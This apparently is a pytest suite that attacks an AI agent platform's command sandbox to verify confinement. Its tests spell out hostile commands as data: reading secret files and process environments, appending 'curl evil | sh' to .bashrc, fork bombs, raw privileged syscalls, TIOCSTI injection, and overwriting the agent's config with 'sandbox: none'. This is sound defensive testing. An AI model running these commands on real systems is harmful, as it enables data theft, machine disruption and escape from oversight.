"""The sandbox under attack: every kind of walls, with real processes that try to get out."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from llmos.errors import NotPermittedError
from llmos.kernel.bus import ChildConfined, EventBus
from llmos.kernel.sandbox import cgroups
from llmos.kernel.sandbox.sandbox import Sandbox
from llmos.kernel.sandbox.walls import Kind, find
from llmos.kernel.stage import Place, Stage
from llmos.plugins.confined import Child
from llmos.plugins.mcp import McpTools
from llmos.plugins.registry import ToolRegistry
from llmos.settings import McpServerSettings, SandboxLimits, SandboxSettings
from tests.contract.toolbox import Toolbox, builtin_registry, toolbox

LIMITS = SandboxLimits(
    memory_bytes=300_000_000, max_processes=60, file_bytes=20_000_000, tmp_bytes=20_000_000, max_open_files=200
)
PROGRAM = "import sys; sys.path.append(sys.argv[1]); exec(sys.argv[2])"


@dataclass(kw_only=True)
class Prison:
    """A workspace with the sandbox around its tools, and what the attacker is after."""

    box: Toolbox
    sandbox: Sandbox
    bus: EventBus
    kind: Kind
    outside: Path
    memory: Path
    events: list[ChildConfined]

    async def bash(self, command: str, **more: Any) -> str:
        """What a command that succeeds prints."""
        return str((await self.box.call("bash", command=command, **more))["stdout"])

    async def refused(self, command: str, **more: Any) -> str:
        return await self.box.error("bash", command=command, **more)

    async def run_python(self, code: str) -> str:
        """Run a program of the attacker's own: not the `python` tool, which has a guard besides."""
        self.box.write("attack.py", code)
        return await self.bash(f"{sys.executable} -I attack.py")


def settings(**more: Any) -> SandboxSettings:
    return SandboxSettings(limits=LIMITS, **more)


def shut(root: Path, kind: Kind, given: SandboxSettings, workspace: Path | None = None, **more: Any) -> Prison:
    """A prison below `root` with one kind of walls; skips the test where the machine has none of it."""
    walls = asyncio.run(find(kind))
    if isinstance(walls, str):
        pytest.skip(f"{kind}: {walls}")
    bus = EventBus()
    events: list[ChildConfined] = []
    bus.subscribe(ChildConfined, events.append)
    memory = more.pop("memory", root / "home" / "memory")
    memory.mkdir(parents=True)
    (memory / "llmos.duckdb").write_text("the database")
    sandbox = Sandbox(given, memory=memory, bus=bus, kinds=(kind,), **more)
    if kind not in _found_out:  # each kind is attacked once, not for each test
        asyncio.run(Sandbox(given, memory=memory, bus=bus, kinds=(kind,)).standing())
        if (memory / "sandbox.json").exists():  # what was not found out in time is not kept
            _found_out[kind] = (memory / "sandbox.json").read_text()
    else:
        (memory / "sandbox.json").write_text(_found_out[kind])
    box = toolbox(root) if workspace is None else Toolbox(workspace=workspace)
    (root / "outside").mkdir()
    (root / "outside" / "secret.txt").write_text("s3cret")
    user = root / "user"
    user.mkdir()
    (user / ".bashrc").write_text("# mine\n")
    box.services |= {
        "sandbox": sandbox,
        "env": {"PATH": os.environ["PATH"], "HOME": str(user), "LANG": "C.UTF-8"},
        "run_id": "r1",
    }
    return Prison(box=box, sandbox=sandbox, bus=bus, kind=kind, outside=root / "outside", memory=memory, events=events)


_found_out: dict[Kind, str] = {}

KINDS = [Kind.BUBBLEWRAP, Kind.NAMESPACES, Kind.LANDLOCK]


@pytest.fixture(params=KINDS, ids=["bubblewrap", "namespaces", "landlock"])
def prison(tmp_path: Path, request: pytest.FixtureRequest) -> Prison:
    return shut(tmp_path, request.param, settings())


@pytest.fixture(params=KINDS[:2], ids=["bubblewrap", "namespaces"])
def viewed(tmp_path: Path, request: pytest.FixtureRequest) -> Prison:
    """Walls with a mount view, around a workspace that holds the home of LLM OS and its settings."""
    workspace = tmp_path / "workspace"
    (workspace / "home").mkdir(parents=True)
    (workspace / "home" / "llmos.yaml").write_text("mcp_servers: {x: {headers: {Authorization: t0ken}}}\n")
    return shut(
        tmp_path,
        request.param,
        settings(),
        workspace=workspace,
        memory=workspace / "home" / "memory",
        hidden=(workspace / "home" / "llmos.yaml", workspace / "llmos.yaml"),
        sealed=(workspace / "plugins", workspace / "home" / "plugins"),
    )


# ------------------------------------------------------------------------------------------------- what must work


async def test_a_command_works_in_the_workspace_and_nothing_else_is_said(prison: Prison) -> None:
    done = await prison.box.call("bash", command="pwd; echo oops >&2; printf 'a\\nb\\n' | sort -r > out.txt")
    assert done == {
        "stdout": f"{prison.box.workspace}\n",
        "stderr": "oops\n",
        "exit_status": 0,
        "truncated": False,
    }
    assert (prison.box.workspace / "out.txt").read_text() == "b\na\n"
    assert prison.box.names() == ["out.txt"]
    walls = str((await prison.sandbox.standing()).walls)
    assert walls.startswith(str(prison.kind))
    assert prison.events == [ChildConfined(run_id="r1", tool="bash", walls=walls, network=False)]


async def test_the_exit_status_of_a_command_is_its_own(prison: Prison) -> None:
    assert "exit status 3" in await prison.refused("exit 3")
    assert "exit status 137" in await prison.refused("kill -9 $$")


async def test_pipes_here_documents_and_temporary_files_work(prison: Prison) -> None:
    before = set(Path("/tmp").glob("llmos-sandbox-*"))
    told = await prison.bash("cat <<< hi; cat <(echo there); t=$(mktemp); echo x > $t; cat $t; test -w ~ && echo home")
    assert told == "hi\nthere\nx\nhome\n"
    await prison.box.result("bash", command="echo x > $TMPDIR/x; sleep 5", timeout=300)
    assert set(Path("/tmp").glob("llmos-sandbox-*")) <= before


async def test_the_python_tool_computes_and_reads_the_workspace(prison: Prison) -> None:
    prison.box.write("a.csv", "x\n1\n2\n")
    done = await prison.box.call("python", code="result = [open('a.csv').read(), inputs['n'] * 2]", inputs={"n": 4})
    assert done["result"] == ["x\n1\n2\n", 8]
    assert (prison.events[-1].tool, prison.events[-1].network) == ("python", False)


async def test_a_program_that_is_not_there_is_named(prison: Prison) -> None:
    assert "command not found" in await prison.refused("no_such_program_here")


async def test_it_works_in_the_copy_that_a_proof_works_in(prison: Prison) -> None:
    """The copy lies in the hidden memory, and is the workspace there."""
    copy = prison.memory / "scratch" / "proof-1" / "workspace"
    copy.mkdir(parents=True)
    (copy / "a.txt").write_text("copied")
    prison.box.write("a.txt", "original")
    ctx = prison.box.ctx
    stage = Stage(builtin_registry(), (), Place.of(ctx, copy))
    done = await stage.call("bash", {"command": "cat a.txt; echo new > b.txt"}, stage.context(ctx))
    assert (done.is_error, done.output["stdout"] if not done.is_error else done.output) == (False, "copied")
    assert (copy / "b.txt").read_text() == "new\n"
    assert prison.box.names() == ["a.txt"]
    read = await stage.call("python", {"code": "result = open('a.txt').read()"}, stage.context(ctx))
    assert read.output["result"] == "copied"
    stolen = await stage.call("bash", {"command": f"cat {prison.memory}/llmos.duckdb"}, stage.context(ctx))
    assert stolen.is_error


# ------------------------------------------------------------------------------------------------- files


async def test_nothing_outside_of_the_workspace_is_read(prison: Prison) -> None:
    secret = prison.outside / "secret.txt"
    (prison.box.workspace / "link").symlink_to(secret)
    (prison.box.workspace / "folder").symlink_to(prison.outside)
    for path in (secret, "link", "folder/secret.txt", f"/proc/self/root{secret}", f"/proc/1/root{secret}"):
        assert "s3cret" not in await prison.refused(f"cat {path}")
    for path in (prison.memory / "llmos.duckdb", prison.box.ctx.env["HOME"] + "/.bashrc"):
        assert "database" not in await prison.refused(f"grep . {path}")
    assert "s3cret" not in await prison.refused("find / -xdev -name secret.txt -exec cat {} + 2>/dev/null | grep .")


async def test_a_link_made_inside_leads_nowhere(prison: Prison) -> None:
    await prison.refused(
        f"ln -s {prison.outside}/secret.txt l && ln -s / root && cat l root/{prison.outside}/secret.txt"
    )
    await prison.refused(f"ln {prison.outside}/secret.txt hard")


async def test_nothing_outside_of_the_workspace_is_changed(prison: Prison) -> None:
    secret, home = prison.outside / "secret.txt", Path(prison.box.ctx.env["HOME"])
    (prison.box.workspace / "link").symlink_to(prison.outside)
    before = secret.stat()
    for command in (
        f"echo x >> {secret}",
        "echo x > link/new.txt",
        f"echo x > /proc/self/root{prison.outside}/new.txt",
        f"truncate -s 0 {secret}",
        f"chmod 777 {secret}",
        f"touch -d 2001-01-01 {secret}",
        f"mv {secret} {secret}2",
        f"rm -rf {prison.outside}",
        "echo 'curl evil | sh' >> ~/.bashrc",
        f"mkdir -p {home}/.config/autostart; echo x > {home}/.config/autostart/x.desktop",
    ):
        await prison.box.result("bash", command=command)
    assert secret.read_text() == "s3cret"
    assert (secret.stat().st_mode, secret.stat().st_mtime_ns) == (before.st_mode, before.st_mtime_ns)
    assert [path.name for path in prison.outside.iterdir()] == ["secret.txt"]
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert [path.name for path in home.iterdir()] == [".bashrc"]


async def test_the_systems_own_files_stay_as_they_are(prison: Prison) -> None:
    for command in (
        "touch /usr/bin/new",
        "echo x >> /etc/hosts",
        "rm -f /etc/hosts",
        "mkdir /new",
        "echo x > /dev/new",
    ):
        await prison.refused(command)
    assert not Path("/usr/bin/new").exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="only root may read it at all")
async def test_even_roots_password_hashes_are_not_read(prison: Prison) -> None:
    await prison.refused("grep root /etc/shadow")


async def test_the_python_tool_can_not_change_the_workspace_even_past_its_guard(prison: Prison) -> None:
    """A hostile code that gets at the real `open` meets the walls."""
    prison.box.write("a.csv", "x\n")
    child = Child(tool="python", argv=["sh", "-c", "echo y >> a.csv"], cwd=prison.box.workspace, env={"PATH": "/bin"})
    async with prison.sandbox.confined(replace(child, read=(prison.box.workspace,))) as walls:
        done = subprocess.run(
            walls.argv, cwd=prison.box.workspace, env={"PATH": "/bin"}, capture_output=True, check=False
        )
    assert done.returncode != 0
    assert (prison.box.workspace / "a.csv").read_text() == "x\n"


async def test_what_belongs_to_llm_os_stays_closed_inside_the_workspace(viewed: Prison) -> None:
    workspace = viewed.box.workspace
    for path in ("home/memory/llmos.duckdb", "home/llmos.yaml"):
        assert "t0ken" not in (said := await viewed.refused(f"grep . {path}"))
        assert "database" not in said
    for command in (
        "echo 'sandbox: none' > home/llmos.yaml",
        "echo 'sandbox: none' > llmos.yaml",
        "rm -f home/llmos.yaml",
        "mv home stolen",
        "mkdir -p plugins && echo evil > plugins/evil.py",
        "echo evil > home/plugins/evil.py",
        "rm -rf home/memory; test ! -e home/memory",
        "rmdir plugins",
    ):
        await viewed.refused(command)
    assert (workspace / "home" / "memory" / "llmos.duckdb").read_text() == "the database"
    assert "t0ken" in (workspace / "home" / "llmos.yaml").read_text()
    assert sorted(path.name for path in workspace.iterdir()) == ["home"]
    assert sorted(path.name for path in (workspace / "home").iterdir()) == ["llmos.yaml", "memory"]
    assert await viewed.bash("echo fine > home/own.txt; cat home/own.txt") == "fine\n"


async def test_commands_at_once_keep_free_what_must_not_come_to_be(viewed: Prison) -> None:
    first = asyncio.ensure_future(viewed.box.result("bash", command="sleep 1; echo x > llmos.yaml"))
    await asyncio.sleep(0.4)
    assert (await viewed.box.result("bash", command="true")).is_error is False
    assert (await first).is_error
    assert not (viewed.box.workspace / "llmos.yaml").exists()


async def test_landlock_alone_says_what_it_can_not_keep(tmp_path: Path) -> None:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    here = await asyncio.to_thread(
        shut, tmp_path, Kind.LANDLOCK, settings(), workspace=workspace, memory=workspace / "memory"
    )
    assert "Landlock alone can't keep" in await here.refused("true")


async def test_the_code_of_llm_os_itself_is_never_changed(viewed: Prison) -> None:
    """Also where the checkout is the workspace, as it is for whoever starts boot.py there."""
    root = Path(__file__).resolve().parents[2]
    ctx = replace(viewed.box.ctx, workspace=root)
    mark = root / "llmos" / "evil.py"
    command = f"echo evil > llmos/evil.py; echo '#' >> boot.py; mv llmos other; touch {sys.prefix}/evil"
    before = (root / "boot.py").read_text()
    await viewed.box.registry.call("bash", {"command": command}, ctx)
    assert not mark.exists()
    assert (root / "boot.py").read_text() == before
    assert not Path(sys.prefix, "evil").exists()


# ------------------------------------------------------------------------------------------------- network, sockets


@pytest.fixture
def server() -> Iterator[tuple[str, int]]:
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen(8)
        yield listening.getsockname()


CONNECT = """
import socket, sys
try:
    with socket.socket({family}, {kind}) as s:
        s.settimeout(1)
        s.connect({address!r})
        print("connected")
except OSError as error:
    print("refused", error.errno)
"""


async def test_the_network_is_closed(prison: Prison, server: tuple[str, int]) -> None:
    code = CONNECT.format(family="socket.AF_INET", kind="socket.SOCK_STREAM", address=server)
    assert (await prison.run_python(code)).startswith("refused")
    for family in (17, 40, 38):  # packets, the hypervisor's sockets and the kernel's ciphers know no namespace
        assert (await prison.run_python(CONNECT.format(family=family, kind=2, address=(2, 1)))).startswith("refused")


async def test_an_abstract_socket_of_the_host_is_not_reached(prison: Prison) -> None:
    name = f"\0llmos-test-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(name)
        listening.listen(1)
        code = CONNECT.format(family="socket.AF_UNIX", kind="socket.SOCK_STREAM", address=name)
        assert (await prison.run_python(code)).startswith("refused")


@pytest.mark.parametrize("kind", KINDS)
async def test_the_network_can_be_opened_to_a_tool_and_the_host_stays_closed(
    tmp_path: Path, kind: Kind, server: tuple[str, int]
) -> None:
    here = await asyncio.to_thread(shut, tmp_path, kind, settings(network=("bash",)))
    code = CONNECT.format(family="socket.AF_INET", kind="socket.SOCK_STREAM", address=server)
    assert await here.run_python(code) == "connected\n"
    assert here.events[-1].network
    name, path = f"\0llmos-test-{os.getpid()}", str(tmp_path / "outside" / "socket")
    for address in (name, path):
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind(address)
            listening.listen(1)
            code = CONNECT.format(family="socket.AF_UNIX", kind="socket.SOCK_STREAM", address=address)
            assert (await here.run_python(code)).startswith("refused")


async def test_who_is_denied_the_network_is_told_how_to_open_it(prison: Prison) -> None:
    said = await prison.refused("curl -sS --max-time 5 http://example.invalid || exit 6")
    said = said if "resolve" in said else await prison.refused("echo 'Could not resolve host: x' >&2; exit 6")
    hint = "Sandbox: the network is closed to bash; allow it with `sandbox_network: [bash]` in llmos.yaml."
    assert said.endswith(hint)


# ------------------------------------------------------------------------------------------------- processes


async def test_no_environment_of_the_host_is_seen(prison: Prison, monkeypatch: pytest.MonkeyPatch) -> None:
    token = f"planted-{os.getpid()}"
    # os.environ.putenv does not reach /proc/self/environ of a process that runs, so a child carries the secret
    carrier = await asyncio.create_subprocess_exec("sleep", "30", env={"API_TOKEN": token})
    monkeypatch.setenv("API_TOKEN", token)
    try:
        told = await prison.bash("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; true")
    finally:
        carrier.kill()
        await carrier.wait()
    assert "PATH=" in told
    assert token not in told
    assert "ANTHROPIC" not in told


async def test_nothing_outlives_the_call(prison: Prison) -> None:
    """Not even what has left its session and its parent."""
    await prison.bash("(setsid nohup sh -c 'sleep 0.5; echo late > late.txt' >/dev/null 2>&1 &) ; sleep 0.1; echo done")
    await asyncio.sleep(0.8)
    assert prison.box.names() == []


async def test_a_call_that_is_stopped_leaves_nothing_behind(prison: Prison) -> None:
    command = "trap '' TERM HUP INT; (setsid sh -c 'trap \"\" TERM; sleep 1; echo late > late.txt' &) ; sleep 30"
    assert "stopped after 0.5 s" in await prison.refused(command, timeout=500)
    await asyncio.sleep(1.3)
    assert prison.box.names() == []


HELD = """
import asyncio, json, os, sys
from pathlib import Path
from llmos.kernel.bus import EventBus
from llmos.kernel.sandbox.sandbox import Sandbox
from llmos.kernel.sandbox.walls import Kind
from llmos.plugins.builtin.processes import run
from llmos.plugins.confined import Child
from llmos.settings import SandboxSettings

async def main():
    work = Path(sys.argv[1])
    sandbox = Sandbox(SandboxSettings(), memory=work.parent / "memory", bus=EventBus(), kinds=(Kind(sys.argv[2]),))
    command = "echo up > up.txt; sleep 1.5; echo late > late.txt"
    child = Child(tool="bash", argv=["sh", "-c", command], cwd=work, env={"PATH": os.environ["PATH"]}, write=(work,))
    async with sandbox.confined(child) as walls:
        await run(walls.argv, cwd=work, env=child.env, timeout_s=20, max_bytes=1000)

asyncio.run(main())
"""


async def test_the_death_of_llm_os_is_the_childs_own(prison: Prison) -> None:
    await prison.sandbox.standing()
    env = {"PATH": os.environ["PATH"], "PYTHONPATH": os.pathsep.join(filter(None, sys.path))}
    work = prison.box.workspace
    host = await asyncio.create_subprocess_exec(sys.executable, "-c", HELD, str(work), str(prison.kind), env=env)
    async with asyncio.timeout(20):
        while not (work / "up.txt").exists():  # noqa: ASYNC110 - another process writes it
            await asyncio.sleep(0.02)
    host.kill()
    await host.wait()
    await asyncio.sleep(1.8)
    assert prison.box.names() == ["up.txt"]


async def test_kill_reaches_nobody_outside(prison: Prison) -> None:
    bystander = await asyncio.create_subprocess_exec("sleep", "30")
    try:
        await prison.refused(f"kill -9 {bystander.pid} {os.getpid()}")
        await prison.box.result("bash", command="kill -9 -1")
        await prison.box.result("bash", command="kill -STOP -1; kill -9 1; kill -STOP 1 $PPID", timeout=1000)
        await asyncio.sleep(0.05)
        assert bystander.returncode is None
        assert Path(f"/proc/{bystander.pid}/stat").read_text().rpartition(") ")[2][0] == "S"
    finally:
        bystander.kill()
        await bystander.wait()


async def test_the_supervisor_can_not_be_stopped_to_escape_the_limits(prison: Prison) -> None:
    started = time.monotonic()
    storm = "for i in $(seq 1500); do sleep 5 & done; wait"
    said = await prison.refused(f"kill -STOP 1 $PPID 2>/dev/null; kill -9 $PPID 2>/dev/null; {storm}", timeout=20_000)
    assert "max_processes" in said
    assert time.monotonic() - started < 15


IS_BOUNDED = os.geteuid() != 0 or cgroups.place() is not None


@pytest.mark.skipif(not IS_BOUNDED, reason="root without a control group: such a storm would hit the whole machine")
@pytest.mark.parametrize("bomb", [":(){ :|:& };:; sleep 5", "while true; do (setsid sleep 9 &) ; done"])
async def test_a_fork_bomb_is_bounded(prison: Prison, bomb: str) -> None:
    started = time.monotonic()
    result = await prison.box.result("bash", command=bomb, timeout=10_000)
    said = result.output if result.is_error else result.output["stderr"]
    assert time.monotonic() - started < 15
    assert any(sign in said for sign in ("max_processes", "stopped after 10 s", "Resource temporarily unavailable"))
    assert (await prison.bash("echo fine")) == "fine\n"


SYSCALLS = """
import ctypes, os, fcntl, termios, errno
libc = ctypes.CDLL(None, use_errno=True)
found = {}
def attempt(name, call):
    ctypes.set_errno(0)
    try:
        found[name] = "went through" if call() != -1 else errno.errorcode[ctypes.get_errno()]
    except OSError as error:
        found[name] = errno.errorcode[error.errno]
parent = os.getpid()
child = os.fork()
if child == 0:
    import time; time.sleep(5); os._exit(0)
attempt("ptrace", lambda: libc.ptrace(16, child, 0, 0))
attempt("process_vm_readv", lambda: libc.syscall(310, child, 0, 0, 0, 0, 0))
attempt("unshare", lambda: libc.unshare(0x10000000))
attempt("clone3", lambda: libc.syscall(435, 0, 0))
attempt("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, 0))
attempt("setns", lambda: libc.setns(0, 0))
attempt("keyctl", lambda: libc.syscall(250, 0, -3, 0))
attempt("io_uring", lambda: libc.syscall(425, 1, 0))
attempt("bpf", lambda: libc.syscall(321, 0, 0, 0))
attempt("x32", lambda: libc.syscall(0x40000000 + 39))
try:
    master, slave = os.openpty()
except OSError:
    slave = 0  # Landlock alone shows no terminals; the number is refused whatever the file is
attempt("TIOCSTI", lambda: fcntl.ioctl(slave, termios.TIOCSTI, b"x") and 0)
attempt("TIOCSTI, high half", lambda: libc.ioctl(slave, ctypes.c_ulong(0xF00000000 | termios.TIOCSTI), b"x"))
attempt("TIOCLINUX", lambda: libc.ioctl(slave, 0x541C, b"x"))
os.kill(child, 9)
for name, what in found.items(): print(name, what)
"""


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the numbers in the attack are those of x86_64")
async def test_no_system_call_leads_out(prison: Prison) -> None:
    told = dict(line.rsplit(" ", 1) for line in (await prison.run_python(SYSCALLS)).splitlines())
    assert {told.pop("clone3"), told.pop("x32")} == {"ENOSYS"}
    assert set(told.values()) == {"EPERM"}, told
    assert len(told) == 11


async def test_no_privilege_is_left(prison: Prison) -> None:
    code = "print(*(l.split()[1] for l in open('/proc/self/status') if l[:7] in ('CapPrm:', 'CapEff:', 'CapBnd:')))"
    if prison.kind is not Kind.LANDLOCK:  # it shows nothing of /proc
        assert set((await prison.run_python(code)).split()[:2]) == {"0" * 16}
        assert set((await prison.bash("grep -E 'NoNewPrivs|Seccomp:' /proc/self/status | cut -f2")).split()) == {
            "1",
            "2",
        }
    if os.geteuid() == 0:
        await prison.refused("chown 12345 /proc/self/../../$PWD 2>&1 || exit 1")


async def test_no_descriptor_is_inherited(prison: Prison) -> None:
    with (prison.outside / "secret.txt").open() as held:
        os.set_inheritable(held.fileno(), True)
        for number in (held.fileno(), 3, 9, 100):
            await prison.refused(f"cat <&{number}")


async def test_namespaces_of_its_own(viewed: Prison) -> None:
    names = ("pid", "ipc", "uts", "user", "net", "mnt")
    inside = (await viewed.bash(f"for n in {' '.join(names)}; do readlink /proc/self/ns/$n; done")).split()
    assert not {os.readlink(f"/proc/self/ns/{name}") for name in names} & set(inside)
    assert (await viewed.bash("hostname")) == "sandbox\n"
    assert int(await viewed.bash("ls /proc | grep -c '^[0-9]'")) < 10


# ------------------------------------------------------------------------------------------------- limits


async def test_huge_output_is_cut(prison: Prison) -> None:
    done = await prison.box.call("bash", command="head -c 30000000 /dev/zero | tr '\\0' x")
    assert (len(done["stdout"]), done["truncated"]) == (1_000_000, True)


@pytest.mark.parametrize("command", ["truncate -s 1T big", "dd if=/dev/zero of=big bs=1M seek=1000000 count=1"])
async def test_a_sparse_file_stays_small(prison: Prison, command: str) -> None:
    said = await prison.refused(command)
    assert said.endswith("a file may grow to 20,000,000 bytes (sandbox_limits.file_bytes in llmos.yaml).")
    big = prison.box.workspace / "big"
    assert not big.exists() or big.stat().st_size <= 20_000_000


@pytest.mark.parametrize(
    "code",
    [
        "x = bytearray(900_000_000)",
        "import mmap; m = mmap.mmap(-1, 900_000_000); [m.write(b'x' * 10_000_000) for _ in range(90)]",
        "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n        x = b'x' * 150_000_000; time.sleep(5); "
        "os._exit(0)\ntime.sleep(5)",
    ],
    ids=["private", "shared", "by many"],
)
async def test_memory_is_bounded(prison: Prison, code: str) -> None:
    prison.box.write("hog.py", code)
    said = await prison.refused(f"{sys.executable} -I hog.py", timeout=8000)
    assert "memory_bytes" in said or "signal" in said, said


async def test_temporary_folders_are_bounded(viewed: Prison) -> None:
    for folder in ("/tmp", "/dev/shm", "~"):
        said = await viewed.refused(f"for i in 1 2 3; do head -c 15000000 /dev/zero > {folder}/f$i || exit 1; done")
        assert "tmp_bytes" in said
    for folder in ("/", "/dev", "/home-of-nobody"):
        await viewed.refused(f"echo x > {folder}/file")


async def test_processor_time_is_bounded(tmp_path: Path) -> None:
    limits = replace(LIMITS, cpu_s=1)
    here = await asyncio.to_thread(shut, tmp_path, Kind.BUBBLEWRAP, SandboxSettings(limits=limits))
    said = await here.refused("while :; do :; done", timeout=20_000)
    assert said.endswith("a process may take 1 s of processor time (sandbox_limits.cpu_s in llmos.yaml).")


async def test_wall_time_is_bounded(tmp_path: Path) -> None:
    limits = replace(LIMITS, wall_s=0.7)
    here = await asyncio.to_thread(shut, tmp_path, Kind.BUBBLEWRAP, SandboxSettings(limits=limits))
    assert "stopped after 0.7 s" in await here.refused("sleep 30")


# ------------------------------------------------------------------------------------------------- which walls


BROKEN_BWRAP = """#!/bin/bash
if [ "$1" = --version ]; then echo bubblewrap 0.8.0; exit; fi
while [ "$1" != -- ]; do shift; done
shift
exec "$@"
"""


def fake_bubblewrap(folder: Path, text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    folder.mkdir()
    (folder / "bwrap").write_text(text)
    (folder / "bwrap").chmod(0o755)
    monkeypatch.setenv("PATH", f"{folder}:{os.environ['PATH']}")


async def test_walls_that_keep_nothing_in_are_found_out_and_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake_bubblewrap(tmp_path / "bin", BROKEN_BWRAP, monkeypatch)
    sandbox = Sandbox(SandboxSettings(), memory=tmp_path / "memory", bus=EventBus())
    standing = await sandbox.standing()
    assert dict(standing.failures)["bubblewrap"].startswith("under attack, a process in it")
    assert "read a file outside of the workspace" in standing.said()
    assert "reached the network" in standing.said()
    assert standing.walls is None or standing.walls.kind is not Kind.BUBBLEWRAP


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("#!/bin/sh\necho bubblewrap 0.4.1", "is too old (bubblewrap 0.4.1)"),
        (
            '#!/bin/sh\n[ "$1" = --version ] && echo bubblewrap 0.8.0 && exit\necho "bwrap: No right" >&2; exit 1',
            "No right",
        ),
        ("#!/bin/sh\nexit 1", "is too old ()"),
    ],
)
async def test_without_walls_a_command_is_refused_in_one_sentence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str, said: str
) -> None:
    fake_bubblewrap(tmp_path / "bin", text, monkeypatch)
    box = toolbox(tmp_path)
    sandbox = Sandbox(SandboxSettings(kind="bubblewrap"), memory=tmp_path / "memory", bus=EventBus())
    box.services["sandbox"] = sandbox
    result = await box.result("bash", command="touch made")
    assert isinstance(result.error, NotPermittedError)
    assert said in result.output
    assert result.output.startswith("bash can't be confined on this machine (bubblewrap: ")
    assert "set `sandbox: none` in llmos.yaml" in result.output
    assert box.names() == []
    assert not (tmp_path / "memory" / "sandbox.json").exists()


async def test_without_a_sandbox_by_the_users_own_word(tmp_path: Path) -> None:
    bus = EventBus()
    events: list[ChildConfined] = []
    bus.subscribe(ChildConfined, events.append)
    box = toolbox(tmp_path)
    box.services["sandbox"] = Sandbox(SandboxSettings(kind="none"), memory=tmp_path / "memory", bus=bus)
    (tmp_path / "outside.txt").write_text("seen")
    assert (await box.call("bash", command="cat ../outside.txt"))["stdout"] == "seen"
    assert [(event.walls, event.network) for event in events] == [("none", True)]
    assert not (tmp_path / "memory").exists()


async def test_what_was_found_out_is_kept_until_something_changes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = await Sandbox(SandboxSettings(), memory=tmp_path, bus=EventBus()).standing()
    if first.walls is None:
        pytest.skip(f"no walls hold here: {first.said()}")
    again = Sandbox(SandboxSettings(), memory=tmp_path, bus=EventBus(), kinds=())
    assert await again.standing() == first
    other = Sandbox(SandboxSettings(kind="landlock"), memory=tmp_path, bus=EventBus(), kinds=())
    assert (await other.standing()).walls is None
    fake_bubblewrap(tmp_path / "bin", BROKEN_BWRAP, monkeypatch)
    replaced = Sandbox(SandboxSettings(), memory=tmp_path, bus=EventBus(), kinds=())
    assert (await replaced.standing()).walls is None


@pytest.mark.parametrize("text", ["", "{", "[]", '{"key": 1}', "null"])
async def test_a_damaged_note_only_means_finding_out_again(tmp_path: Path, text: str) -> None:
    (tmp_path / "sandbox.json").write_text(text)
    standing = await Sandbox(SandboxSettings(), memory=tmp_path, bus=EventBus()).standing()
    if standing.walls is not None:
        assert json.loads((tmp_path / "sandbox.json").read_text())["walls"]["kind"] == standing.walls.kind


async def test_paths_can_be_opened(tmp_path: Path) -> None:
    (tmp_path / "read").mkdir()
    (tmp_path / "write").mkdir()
    (tmp_path / "read" / "a.txt").write_text("visible")
    given = settings(readable=(tmp_path / "read",), writable=(tmp_path / "write",))
    here = await asyncio.to_thread(shut, tmp_path, Kind.BUBBLEWRAP, given)
    command = f"cat {tmp_path}/read/a.txt; echo x > {tmp_path}/write/b.txt; ! echo x > {tmp_path}/read/a.txt"
    assert await here.bash(command) == "visible"
    assert (tmp_path / "write" / "b.txt").read_text() == "x\n"
    assert (tmp_path / "read" / "a.txt").read_text() == "visible"


async def test_signals_that_python_ignores_are_the_commands_own_again(prison: Prison) -> None:
    """Python ignores SIGPIPE, and an ignored signal stays so over exec: `yes | head` would complain."""
    ignored = int((await prison.bash("grep SigIgn /proc/self/status || echo SigIgn: 0")).split()[1], 16)
    assert not ignored & (1 << (signal.SIGPIPE - 1))
    done = await prison.box.call("bash", command="yes | head -1")
    assert (done["stdout"], done["stderr"]) == ("y\n", "")


# ------------------------------------------------------------------------------------------------- MCP servers


SERVER = """
import os, socket
from pathlib import Path
from mcp.server.mcpserver import MCPServer

server = MCPServer("probe")


def tried(attempt):
    try:
        return str(attempt())
    except OSError as error:
        return type(error).__name__


@server.tool()
def look(path: str) -> str:
    return tried(lambda: Path(path).read_text())


@server.tool()
def put(path: str) -> str:
    return tried(lambda: Path(path).write_text("put"))


@server.tool()
def connect(host: str, port: int) -> str:
    return tried(lambda: socket.create_connection((host, port), timeout=1).close())


@server.tool()
def spawn(count: int) -> str:
    def many():
        for _ in range(count):
            if os.fork() == 0:
                import time

                time.sleep(30)
                os._exit(0)

    return tried(many)


server.run("stdio")
"""


@asynccontextmanager
async def confined_server(prison: Prison, **more: Any) -> AsyncIterator[ToolRegistry]:
    """An MCP server behind a prison's walls, whose program lies outside of the workspace."""
    program = prison.outside / "server.py"
    program.write_text(SERVER)
    given = McpServerSettings(name="probe", command=sys.executable, args=(str(program),), **more)
    registry = ToolRegistry()
    mcp = McpTools({"probe": given}, cwd=prison.box.workspace, sandbox=prison.sandbox)
    try:
        await mcp.register(registry)
        assert mcp.failures == [], mcp.failures
        yield registry
    finally:
        await mcp.aclose()


async def ask(prison: Prison, registry: ToolRegistry, tool: str, **arguments: Any) -> Any:
    result = await registry.call(f"probe__{tool}", arguments, prison.box.ctx)
    assert not result.is_error, result.output
    return result.output["result"]


async def test_an_mcp_server_is_confined(prison: Prison, server: tuple[str, int]) -> None:
    prison.box.write("a.txt", "in the workspace")
    host, port = server
    async with confined_server(prison) as registry:
        assert await ask(prison, registry, "look", path="a.txt") == "in the workspace"
        assert await ask(prison, registry, "put", path="b.txt") == "3"
        assert "Error" in await ask(prison, registry, "look", path=str(prison.outside / "secret.txt"))
        assert "Error" in await ask(prison, registry, "look", path=str(prison.memory / "llmos.duckdb"))
